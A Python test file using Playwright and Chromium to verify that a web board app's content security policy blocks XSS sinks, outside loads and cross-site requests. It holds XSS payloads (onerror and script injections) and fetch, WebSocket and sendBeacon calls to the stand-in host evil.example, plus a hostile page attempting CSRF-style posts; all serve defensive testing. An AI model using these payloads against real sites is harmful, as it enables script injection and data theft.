"""What the policy stops in a real Chromium, should markup ever get into a page; and pages of other sites."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page

from tests.support import ServerProcess

SINKS = {
    "innerHTML": "document.body.innerHTML = '<img src=x onerror=\"window.hit = 1\">'",
    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<b onclick=\"hit = 1\">x</b>')",
    "document.write": "document.write('<script>window.hit = 1</scr' + 'ipt>')",
    "srcdoc": "document.createElement('iframe').srcdoc = '<script>parent.hit = 1</scr' + 'ipt>'",
    "a script's text": "document.createElement('script').text = 'window.hit = 1'",
    "a script's address": "document.createElement('script').src = 'data:text/javascript,window.hit=1'",
    "a plug-in": "document.createElement('object').data = 'https://evil.example/x'",
    "a policy that lets all pass": "trustedTypes.createPolicy('mine', {createHTML: text => text})",
}
SNEAKED = """kind => new Promise(done => {
  document.addEventListener('securitypolicyviolation', event => done(event.effectiveDirective), {once: true});
  const element = document.createElement(kind.tag);
  for (const [name, value] of Object.entries(kind.attributes)) element.setAttribute(name, value);
  document.body.append(element);
  element.click();
})"""
MARKUP = {
    "a picture from elsewhere": ("img", {"src": "https://evil.example/x.png"}, "img-src"),
    "a frame": ("iframe", {"src": "https://evil.example/"}, "frame-src"),
    "a style from elsewhere": (
        "link",
        {"rel": "stylesheet", "href": "https://evil.example/x.css"},
        "style-src-elem",
    ),
    "an inline style": ("div", {"style": "background: url(https://evil.example/x)"}, "style-src-attr"),
    "a base": ("base", {"href": "https://evil.example/"}, "base-uri"),
}


@pytest.fixture
def page(browser: Browser, shared: ServerProcess) -> Iterator[Page]:
    """The page of the board, as somebody sees it for the first time."""
    context = browser.new_context()
    opened = context.new_page()
    opened.goto(shared.url)
    yield opened
    context.close()


@pytest.mark.parametrize("sink", SINKS)
def test_text_does_not_become_markup_or_code(page: Page, sink: str) -> None:
    code = f"() => {{ try {{ {SINKS[sink]}; return '' }} catch (error) {{ return error.name }} }}"
    refused = page.evaluate(code)
    assert refused == "TypeError"
    assert page.evaluate("window.hit") is None


@pytest.mark.parametrize("what", MARKUP)
def test_markup_that_got_in_loads_nothing_from_elsewhere(page: Page, what: str) -> None:
    tag, attributes, directive = MARKUP[what]
    assert page.evaluate(SNEAKED, {"tag": tag, "attributes": attributes}) == directive


def test_nothing_is_sent_elsewhere(page: Page) -> None:
    for call in (
        "fetch('https://evil.example/')",
        "new Promise((yes, no) => { new WebSocket('wss://evil.example/').onerror = no })",
    ):
        assert (
            page.evaluate(f"async () => {{ try {{ await {call}; return 'sent' }} catch {{ return 'not' }} }}")
            == "not"
        )
    assert page.evaluate("navigator.sendBeacon('https://evil.example/', 'x') && window.hit") in (False, None)


EVIL = """<!doctype html><title>evil</title><iframe id=framed src="TARGET"></iframe>
<img src="TARGET/api/boards"><script src="TARGET/api/boards"></script>"""
ATTEMPTS = """async target => {
  const socket = await new Promise(done => {
    const made = new WebSocket(target.replace('http', 'ws') + '/ws');
    made.onopen = () => done('open');
    made.onerror = () => done('refused');
  });
  const tries = {};
  for (const [name, options] of Object.entries({
    read: {}, simple: {method: 'POST', body: '{"title": "T"}', mode: 'no-cors', credentials: 'include'},
    json: {method: 'POST', body: '{"title": "T"}', headers: {'Content-Type': 'application/json'}},
  })) {
    try { tries[name] = (await fetch(target + '/api/tasks', options)).type } catch { tries[name] = 'refused' }
  }
  return {socket, ...tries};
}"""


@pytest.fixture
def elsewhere(shared: ServerProcess) -> Iterator[str]:
    """The address of another site, which would like to use ours."""

    class Evil(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = EVIL.replace("TARGET", shared.url).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://localhost:{server.server_address[1]}"
    server.shutdown()
    server.server_close()
    thread.join()


def test_a_page_of_another_site_gets_nothing_and_changes_nothing(
    browser: Browser, shared: ServerProcess, elsewhere: str
) -> None:
    context = browser.new_context()
    page = context.new_page()
    before = shared.get("/api/tasks?limit=1")[1]
    page.goto(elsewhere)
    assert page.evaluate(ATTEMPTS, shared.url) == {
        "socket": "refused",
        "read": "refused",
        "simple": "refused",
        "json": "refused",
    }
    assert page.frame_locator("#framed").locator("main").count() == 0, "not even to be looked at"
    assert shared.get("/api/tasks?limit=1")[1] == before
    context.close()
